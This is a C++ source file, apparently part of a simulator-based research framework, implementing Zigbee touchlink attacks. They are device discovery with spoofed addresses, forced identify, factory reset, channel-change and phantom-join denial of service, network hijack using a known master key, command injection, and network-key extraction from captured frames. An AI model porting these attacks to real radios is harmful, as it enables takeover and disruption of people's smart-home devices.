#include "touchlink/attacks.hpp"

#include "touchlink/radio.hpp"

#include <cinttypes>
#include <cstdio>
#include <map>
#include <set>
#include <utility>

namespace touchlink::attacks {

namespace {

constexpr uint64_t kDwellUs = 250'000;      // listen window after each scan request
constexpr uint64_t kReplyWaitUs = 100'000;  // settle time after a follow-up command

std::string hex64(uint64_t v) {
    char buf[24];
    std::snprintf(buf, sizeof buf, "0x%016" PRIx64, v);
    return buf;
}

wire::MacHeader scan_mac(uint64_t src_ext) {
    wire::MacHeader m;
    m.src_pan = 0xFFFF;
    m.dst_pan = 0xFFFF;
    m.src_extended = src_ext;
    m.dst_short = wire::kBroadcastShortAddr;
    return m;
}

wire::MacHeader unicast_mac(uint64_t src_ext, uint64_t dst_ext) {
    wire::MacHeader m;
    m.src_pan = 0xFFFF;
    m.dst_pan = 0xFFFF;
    m.src_extended = src_ext;
    m.dst_extended = dst_ext;
    return m;
}

std::string snapshot_of(const airsim::Simulator& sim, uint64_t ext) {
    for (const auto& n : sim.nodes())
        if (n.extended_addr() == ext && n.is_device()) return node_snapshot_line(n);
    return {};
}

Outcome begin_outcome(const char* attack, const airsim::Simulator& sim,
                      const DiscoveredDevice& target) {
    Outcome o;
    o.attack = attack;
    o.target_extended = target.extended_addr;
    o.state_before = snapshot_of(sim, target.extended_addr);
    return o;
}

// Shared preamble of every post-scan attack: resolve the attacker node, bail
// out when the discovery already shows a dead (un-acked) transaction, and
// park the attacker's receiver on the target's channel.
airsim::Node* arm_attack(airsim::Simulator& sim, const std::string& attacker_node,
                         const DiscoveredDevice& target, Outcome& o) {
    airsim::Node* n = sim.find(attacker_node);
    if (!n) {
        o.verdict = Verdict::Rejected;
        o.detail = "unknown attacker node '" + attacker_node + "'";
        o.state_after = o.state_before;
        return nullptr;
    }
    if (target.ack_requested && !target.ack_observed) {
        o.verdict = Verdict::AckTimeout;
        o.detail = "scan response demanded a link-layer ack nobody sent; transaction is dead";
        o.state_after = o.state_before;
        return nullptr;
    }
    n->attacker_channel = target.channel;
    return n;
}

// Sends one touchlink command at the target and waits for the dust to
// settle. Returns false (with the outcome filled in) when encoding failed.
bool fire(airsim::Simulator& sim, const std::string& attacker_node, uint64_t src_ext,
          const DiscoveredDevice& target, wire::TouchlinkCommand cmd, Outcome& o) {
    wire::Frame f{wire::TouchlinkFrame{unicast_mac(src_ext, target.extended_addr),
                                       std::move(cmd)}};
    if (auto err = sim.transmit(attacker_node, f, target.channel)) {
        o.verdict = Verdict::Rejected;
        o.detail = std::string("encode refused: ") + wire::wire_error_name(*err);
        o.state_after = o.state_before;
        return false;
    }
    ++o.frames_sent;
    sim.run_for(kReplyWaitUs);
    o.state_after = snapshot_of(sim, target.extended_addr);
    return true;
}

const devices::EndDeviceState* target_device(airsim::Simulator& sim, uint64_t ext,
                                             Outcome& o) {
    airsim::Node* victim = sim.find_by_extended(ext);
    if (!victim) {
        o.verdict = Verdict::NoDeviceFound;
        o.detail = "no node with this address in the simulation";
        return nullptr;
    }
    if (!victim->end_device) {
        o.verdict = Verdict::NoEffect;
        o.detail = "target does not run an end-device stack";
        return nullptr;
    }
    return &*victim->end_device;
}

template <typename T>
std::optional<T> reply_after(const airsim::Node& node, size_t mark, uint32_t tid,
                             uint64_t from_ext) {
    for (size_t i = mark; i < node.inbox.size(); ++i) {
        const auto* tl = std::get_if<wire::TouchlinkFrame>(&node.inbox[i].frame);
        if (!tl) continue;
        const auto* cmd = std::get_if<T>(&tl->command);
        if (!cmd || cmd->transaction_id != tid) continue;
        if (!tl->mac.src_extended || *tl->mac.src_extended != from_ext) continue;
        return *cmd;
    }
    return std::nullopt;
}

// Core of both join-planting attacks: fire the request, read the status
// response, and hand the adopted-state check back to the caller.
struct JoinShot {
    bool sent = false;
    std::optional<uint8_t> status;
};

JoinShot fire_join(airsim::Simulator& sim, const std::string& attacker_node, uint64_t src_ext,
                   const DiscoveredDevice& target, const wire::NetworkJoinEndDeviceRequest& join,
                   Outcome& o) {
    JoinShot shot;
    airsim::Node* n = sim.find(attacker_node);
    size_t mark = n->inbox.size();
    if (!fire(sim, attacker_node, src_ext, target, join, o)) return shot;
    shot.sent = true;
    if (auto resp = reply_after<wire::NetworkJoinEndDeviceResponse>(
            *n, mark, join.transaction_id, target.extended_addr)) {
        ++o.frames_received;
        shot.status = resp->status;
    }
    return shot;
}

}  // namespace

const char* verdict_name(Verdict v) {
    switch (v) {
        case Verdict::Success: return "success";
        case Verdict::AckTimeout: return "ack_timeout";
        case Verdict::NoDeviceFound: return "no_device_found";
        case Verdict::Rejected: return "rejected";
        case Verdict::NoEffect: return "no_effect";
        case Verdict::IncompleteCapture: return "incomplete_capture";
        case Verdict::MixedTransactions: return "mixed_transactions";
    }
    return "?";
}

std::string report_text(const Outcome& o) {
    std::string out;
    out += "attack=" + o.attack + '\n';
    out += "verdict=" + std::string(verdict_name(o.verdict)) + '\n';
    out += "target=" + hex64(o.target_extended) + '\n';
    out += "frames_sent=" + std::to_string(o.frames_sent) + '\n';
    out += "frames_received=" + std::to_string(o.frames_received) + '\n';
    out += "detail=" + o.detail + '\n';
    out += "before=" + o.state_before + '\n';
    out += "after=" + o.state_after + '\n';
    return out;
}

std::vector<DiscoveredDevice> active_scan(airsim::Simulator& sim,
                                          const std::string& attacker_node,
                                          const AttackerConfig& cfg,
                                          std::optional<uint8_t> only_channel) {
    std::vector<DiscoveredDevice> found;
    airsim::Node* n = sim.find(attacker_node);
    if (!n) return found;
    const uint64_t src_ext = cfg.spoof_extended_src.value_or(n->extended_addr());
    const uint8_t lo = only_channel.value_or(wire::kMinChannel);
    const uint8_t hi = only_channel.value_or(wire::kMaxChannel);
    for (uint8_t ch = lo; ch <= hi; ++ch) {
        n->attacker_channel = ch;
        const uint32_t tid = sim.rng().nonzero_u32();
        const uint64_t sent_at = sim.now();
        const size_t mark = n->inbox.size();
        sim.transmit(attacker_node,
                     wire::Frame{wire::TouchlinkFrame{scan_mac(src_ext), wire::ScanRequest{tid}}},
                     ch);
        sim.run_for(kDwellUs);
        for (size_t i = mark; i < n->inbox.size(); ++i) {
            const auto& cap = n->inbox[i];
            const auto* tl = std::get_if<wire::TouchlinkFrame>(&cap.frame);
            if (!tl) continue;
            const auto* resp = std::get_if<wire::ScanResponse>(&tl->command);
            if (!resp || resp->transaction_id != tid || !tl->mac.src_extended) continue;
            DiscoveredDevice d;
            d.extended_addr = *tl->mac.src_extended;
            d.channel = ch;
            d.scan_response = *resp;
            d.rssi_dbm = cap.rssi_dbm;
            d.ctx = crypto::TransactionContext{tid, resp->response_id,
                                               sent_at + devices::kTransactionLifetimeUs};
            d.ack_requested = tl->mac.ack_requested;
            for (size_t j = i + 1; j < n->inbox.size() && !d.ack_observed; ++j) {
                const auto* ack = std::get_if<wire::AckFrame>(&n->inbox[j].frame);
                if (ack && ack->sequence_number == tl->mac.sequence_number)
                    d.ack_observed = true;
            }
            found.push_back(std::move(d));
        }
    }
    return found;
}

Outcome blink_attack(airsim::Simulator& sim, const std::string& attacker_node,
                     const AttackerConfig& cfg, const DiscoveredDevice& target,
                     uint16_t duration_s) {
    Outcome o = begin_outcome("blink", sim, target);
    airsim::Node* n = arm_attack(sim, attacker_node, target, o);
    if (!n) return o;
    const uint64_t src_ext = cfg.spoof_extended_src.value_or(n->extended_addr());
    // The device anchors its identify timer at the request's arrival, so
    // compute that instant up front to report the effective duration.
    const wire::IdentifyRequest req{target.ctx.transaction_id, duration_s};
    const auto enc = wire::encode_frame(
        wire::Frame{wire::TouchlinkFrame{unicast_mac(src_ext, target.extended_addr), req}});
    const uint64_t arrival = sim.now() + radio::delivery_delay_us(enc.bytes.size());
    if (!fire(sim, attacker_node, src_ext, target, req, o)) return o;
    const devices::EndDeviceState* dev = target_device(sim, target.extended_addr, o);
    if (!dev) return o;
    if (dev->identify_until && *dev->identify_until > sim.now()) {
        o.verdict = Verdict::Success;
        o.detail = "identify effective " +
                   std::to_string((*dev->identify_until - arrival) / 1'000'000) + " s";
    } else {
        o.verdict = Verdict::NoEffect;
        o.detail = "identify not running on the target";
    }
    return o;
}

Outcome reset_attack(airsim::Simulator& sim, const std::string& attacker_node,
                     const AttackerConfig& cfg, const DiscoveredDevice& target) {
    Outcome o = begin_outcome("reset", sim, target);
    airsim::Node* n = arm_attack(sim, attacker_node, target, o);
    if (!n) return o;
    const uint64_t src_ext = cfg.spoof_extended_src.value_or(n->extended_addr());
    if (!fire(sim, attacker_node, src_ext, target,
              wire::ResetToFactoryNewRequest{target.ctx.transaction_id}, o))
        return o;
    airsim::Node* victim = sim.find_by_extended(target.extended_addr);
    if (!victim) {
        o.verdict = Verdict::NoDeviceFound;
        o.detail = "no node with this address in the simulation";
        return o;
    }
    const bool wiped = victim->end_device ? victim->end_device->factory_new
                                          : victim->initiator && victim->initiator->factory_new;
    if (wiped) {
        o.verdict = Verdict::Success;
        o.detail = "target wiped to factory-new";
    } else {
        o.verdict = Verdict::NoEffect;
        o.detail = "target still holds its network";
    }
    return o;
}

Outcome dos_channel_change(airsim::Simulator& sim, const std::string& attacker_node,
                           const AttackerConfig& cfg, const DiscoveredDevice& target,
                           uint8_t new_channel, std::optional<uint8_t> update_id_override) {
    Outcome o = begin_outcome("dos_channel", sim, target);
    airsim::Node* n = arm_attack(sim, attacker_node, target, o);
    if (!n) return o;
    const uint64_t src_ext = cfg.spoof_extended_src.value_or(n->extended_addr());
    wire::NetworkUpdateRequest upd;
    upd.transaction_id = target.ctx.transaction_id;
    upd.extended_pan_id = target.scan_response.extended_pan_id;
    upd.network_update_id =
        update_id_override.value_or(static_cast<uint8_t>(target.scan_response.network_update_id + 1));
    upd.channel = new_channel;
    upd.pan_id = target.scan_response.pan_id;
    upd.short_addr = 0xFFFE;
    if (!fire(sim, attacker_node, src_ext, target, upd, o)) return o;
    const devices::EndDeviceState* dev = target_device(sim, target.extended_addr, o);
    if (!dev) return o;
    if (dev->net && dev->net->channel == new_channel &&
        dev->net->network_update_id == upd.network_update_id) {
        o.verdict = Verdict::Success;
        o.detail = "target moved to channel " + std::to_string(new_channel) + " (update id " +
                   std::to_string(upd.network_update_id) + ")";
    } else {
        o.verdict = Verdict::NoEffect;
        o.detail = "network parameters unchanged";
    }
    return o;
}

Outcome dos_join_phantom(airsim::Simulator& sim, const std::string& attacker_node,
                         const AttackerConfig& cfg, const DiscoveredDevice& target) {
    Outcome o = begin_outcome("dos_join", sim, target);
    airsim::Node* n = arm_attack(sim, attacker_node, target, o);
    if (!n) return o;
    const uint64_t src_ext = cfg.spoof_extended_src.value_or(n->extended_addr());
    wire::NetworkJoinEndDeviceRequest join;
    join.transaction_id = target.ctx.transaction_id;
    join.extended_pan_id = sim.rng().nonzero_u64();
    join.key_index = wire::kMasterKeyIndex;
    join.encrypted_network_key = sim.rng().next_key().bytes;  // garbage: unwraps to noise
    join.channel = target.channel;
    join.pan_id = target.scan_response.factory_new ? 0x7A7A : target.scan_response.pan_id;
    join.network_update_id = static_cast<uint8_t>(target.scan_response.network_update_id + 1);
    join.assigned_short_addr = 0xFFFE;
    JoinShot shot = fire_join(sim, attacker_node, src_ext, target, join, o);
    if (!shot.sent) return o;
    const devices::EndDeviceState* dev = target_device(sim, target.extended_addr, o);
    if (!dev) return o;
    if (dev->net && dev->net->extended_pan_id == join.extended_pan_id) {
        o.verdict = Verdict::Success;
        o.detail = "target joined phantom network " + hex64(join.extended_pan_id) +
                   " under an unknowable key";
    } else if (shot.status && *shot.status != 0) {
        o.verdict = Verdict::Rejected;
        o.detail = "join refused with status " + std::to_string(*shot.status);
    } else {
        o.verdict = Verdict::NoEffect;
        o.detail = "target kept its network";
    }
    return o;
}

Outcome hijack(airsim::Simulator& sim, const std::string& attacker_node,
               const AttackerConfig& cfg, const DiscoveredDevice& target,
               const HijackParams& params) {
    Outcome o = begin_outcome("hijack", sim, target);
    if (!cfg.master_key) {
        o.verdict = Verdict::Rejected;
        o.detail = "master key unknown; cannot wrap a network key";
        o.state_after = o.state_before;
        return o;
    }
    airsim::Node* n = arm_attack(sim, attacker_node, target, o);
    if (!n) return o;
    const uint64_t src_ext = cfg.spoof_extended_src.value_or(n->extended_addr());
    const crypto::Key128 key = params.network_key ? *params.network_key : sim.rng().next_key();
    auto wrapped = crypto::wrap_network_key(*cfg.master_key, target.ctx, key);
    if (!wrapped) {
        o.verdict = Verdict::Rejected;
        o.detail = "transaction context unusable for key wrapping";
        o.state_after = o.state_before;
        return o;
    }
    wire::NetworkJoinEndDeviceRequest join;
    join.transaction_id = target.ctx.transaction_id;
    join.extended_pan_id = params.extended_pan_id;
    join.key_index = wire::kMasterKeyIndex;
    join.encrypted_network_key = *wrapped;
    join.channel = params.channel.value_or(target.channel);
    join.pan_id = params.pan_id;
    join.network_update_id = params.network_update_id;
    join.assigned_short_addr = params.short_addr;
    JoinShot shot = fire_join(sim, attacker_node, src_ext, target, join, o);
    if (!shot.sent) return o;
    const devices::EndDeviceState* dev = target_device(sim, target.extended_addr, o);
    if (!dev) return o;
    if (dev->net && dev->net->network_key == key &&
        dev->net->extended_pan_id == params.extended_pan_id) {
        o.verdict = Verdict::Success;
        o.detail = "target joined attacker network on channel " +
                   std::to_string(join.channel) + " with key " + key.to_hex();
    } else if (shot.status && *shot.status != 0) {
        o.verdict = Verdict::Rejected;
        o.detail = "join refused with status " + std::to_string(*shot.status);
    } else {
        o.verdict = Verdict::NoEffect;
        o.detail = "target did not adopt the attacker network";
    }
    return o;
}

Outcome inject_command(airsim::Simulator& sim, const std::string& attacker_node,
                       const crypto::Key128& network_key, uint16_t pan_id, uint8_t channel,
                       const wire::ClusterCommand& cmd, uint16_t dst_short, uint32_t counter,
                       uint16_t src_short) {
    Outcome o;
    o.attack = "inject";
    airsim::Node* n = sim.find(attacker_node);
    if (!n) {
        o.verdict = Verdict::Rejected;
        o.detail = "unknown attacker node '" + attacker_node + "'";
        return o;
    }
    n->attacker_channel = channel;
    const auto payload = wire::encode_cluster_command(cmd);
    const auto sealed =
        crypto::ccm_encrypt(network_key, crypto::CcmContext{src_short, counter}, payload);
    wire::SecuredNwkFrame f;
    f.src_short = src_short;
    f.dst_short = dst_short;
    f.pan_id = pan_id;
    f.frame_counter = counter;
    f.endpoint = 1;
    f.ciphertext = sealed.ciphertext;
    f.mic = sealed.mic;
    if (auto err = sim.transmit(attacker_node, wire::Frame{f}, channel)) {
        o.verdict = Verdict::Rejected;
        o.detail = std::string("encode refused: ") + wire::wire_error_name(*err);
        return o;
    }
    o.frames_sent = 1;
    sim.run_for(kReplyWaitUs);
    o.verdict = Verdict::Success;
    o.detail = "secured command on air (counter " + std::to_string(counter) + ")";
    return o;
}

namespace {

// Per-transaction progress while walking a capture.
struct TransactionRecord {
    bool have_request = false;
    std::optional<uint32_t> response_id;
};

// The key-carrying payload of a join or network-start command, when `cmd`
// is one.
struct KeyCarrier {
    uint32_t transaction_id = 0;
    std::array<uint8_t, 16> encrypted_network_key{};
};

std::optional<KeyCarrier> key_carrier(const wire::TouchlinkCommand& cmd) {
    if (const auto* j = std::get_if<wire::NetworkJoinEndDeviceRequest>(&cmd))
        return KeyCarrier{j->transaction_id, j->encrypted_network_key};
    if (const auto* s = std::get_if<wire::NetworkStartRequest>(&cmd))
        return KeyCarrier{s->transaction_id, s->encrypted_network_key};
    return std::nullopt;
}

}  // namespace

ExtractionResult extract_network_key(std::span<const airsim::CapturedFrame> capture,
                                     const crypto::Key128& master_key) {
    auto all = extract_all_network_keys(capture, master_key);
    if (!all.empty()) return all.front();

    std::set<uint32_t> tids;
    for (const auto& cap : capture) {
        const auto* tl = std::get_if<wire::TouchlinkFrame>(&cap.frame);
        if (!tl) continue;
        const bool relevant = std::holds_alternative<wire::ScanRequest>(tl->command) ||
                              std::holds_alternative<wire::ScanResponse>(tl->command) ||
                              key_carrier(tl->command).has_value();
        if (!relevant) continue;
        if (uint32_t tid = wire::transaction_id(tl->command)) tids.insert(tid);
    }
    ExtractionResult r;
    r.verdict = tids.size() >= 2 ? Verdict::MixedTransactions : Verdict::IncompleteCapture;
    return r;
}

std::vector<ExtractionResult> extract_all_network_keys(
    std::span<const airsim::CapturedFrame> capture, const crypto::Key128& master_key) {
    std::vector<ExtractionResult> results;
    std::map<uint32_t, TransactionRecord> records;
    for (const auto& cap : capture) {
        const auto* tl = std::get_if<wire::TouchlinkFrame>(&cap.frame);
        if (!tl) continue;
        if (const auto* req = std::get_if<wire::ScanRequest>(&tl->command)) {
            if (req->transaction_id) records[req->transaction_id].have_request = true;
            continue;
        }
        if (const auto* resp = std::get_if<wire::ScanResponse>(&tl->command)) {
            if (resp->transaction_id)
                records[resp->transaction_id].response_id = resp->response_id;
            continue;
        }
        const auto carrier = key_carrier(tl->command);
        if (!carrier || !carrier->transaction_id) continue;
        auto it = records.find(carrier->transaction_id);
        if (it == records.end() || !it->second.have_request || !it->second.response_id) continue;
        crypto::TransactionContext ctx{carrier->transaction_id, *it->second.response_id, 0};
        auto key = crypto::unwrap_network_key(master_key, ctx, carrier->encrypted_network_key);
        if (!key) continue;
        ExtractionResult r;
        r.verdict = Verdict::Success;
        r.network_key = *key;
        r.transaction_id = carrier->transaction_id;
        r.target_extended = tl->mac.dst_extended.value_or(0);
        results.push_back(r);
    }
    return results;
}

}  // namespace touchlink::attacks
